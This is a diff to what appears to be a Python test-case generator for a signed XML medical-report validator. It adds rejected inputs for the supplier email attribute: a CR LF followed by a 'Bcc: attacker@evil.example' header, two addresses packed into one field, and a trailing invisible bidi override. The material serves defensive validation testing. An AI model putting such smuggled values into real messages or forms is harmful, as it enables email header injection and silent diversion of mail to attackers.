@@ -351,6 +351,22 @@ def cases(s):
                once(d, "<RaportareCCM ", f'<?xml-stylesheet type="text/xsl" href="{NET}/style.xsl"?>\n<RaportareCCM '),
                [F03], "an xml-stylesheet processing instruction naming an http URL (unsigned: F03 only)")
 
+    # -- an address for error reports that would become a header or a second SMTP recipient:
+    #    signed, valid otherwise; the Email type takes one RFC 5321 mailbox (as Mailbox.swift)
+    mailbox = 'denumire="CMI Dr. Popescu Ana"'
+    d = document("email-crlf-bcc.xml")
+    yield case("email-crlf-bcc.xml",
+               s.enveloped(once(d, mailbox, mailbox + ' email="victim@exemplu.ro&#13;&#10;Bcc: attacker@evil.example"')),
+               [F02], "Furnizor/@email with a CR LF (character references) and a Bcc: header after it")
+    d = document("email-two-recipients.xml")
+    yield case("email-two-recipients.xml",
+               s.enveloped(once(d, mailbox, mailbox + ' email="evil.example&gt;,&lt;victim@exemplu.ro"')),
+               [F02], "Furnizor/@email that is two addresses for a To: header and RCPT (one @, no white space)")
+    d = document("email-bidi-control.xml")
+    yield case("email-bidi-control.xml",
+               s.enveloped(once(d, mailbox, mailbox + ' email="victim@exemplu.ro&#x202E;"')),
+               [F02], "Furnizor/@email ending in an invisible bidi override (U+202E)")
+
     # -- signature wrapping (the signed content elsewhere, or more than the one allowed shape)
     body = document("wrap-object-forged.xml")
     forged = once(body, "<Numar>4400100</Numar>", "<Numar>4400199</Numar>")
